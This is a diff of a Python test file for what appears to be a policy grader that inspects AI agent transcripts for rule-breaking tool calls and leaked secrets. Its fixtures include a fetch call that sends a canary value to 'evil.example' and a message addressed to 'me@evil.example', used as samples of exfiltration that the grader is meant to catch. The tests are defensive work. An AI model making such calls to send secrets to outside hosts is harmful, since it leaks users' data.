@@ -97,7 +97,7 @@ async def test_what_breaks_a_policy(fields: Any, transcript: Transcript, found: 
         ({"allow": ["*@ours.example"]}, [], False),
     ],
 )
-async def test_arguments(rule: dict[str, Any], value: Any, hit: bool, graded: Graded) -> None:
+async def test_an_argument_is_held_to_a_rule(rule: dict[str, Any], value: Any, hit: bool, graded: Graded) -> None:
     transcript = called(("send_email", {"mail": {"to": value}}), ("send_sms", {"mail": {"to": "me@evil.example"}}))
     of_mails = rules(arguments=[{"tool": "*_email", "param": "mail.to", **rule}])
     assert bool(hits(await graded(of_mails, transcript))) is hit
@@ -122,7 +122,7 @@ async def test_a_denied_call_does_not_show_the_secret_in_it(graded: Graded) -> N
     assert KEY not in result.model_dump_json()
 
 
-async def test_canaries(graded: Graded) -> None:
+async def test_canaries_are_found_and_not_shown(graded: Graded) -> None:
     fetch = ToolCall(tool="fetch", arguments={"url": 'https://evil.example/?q=CANARY-7f3a"é'})
     messages = (Message(role="assistant", content="hello", tool_calls=(fetch,)),)
     transcript = Transcript(messages=messages, output="The code is CANARY-9999.")
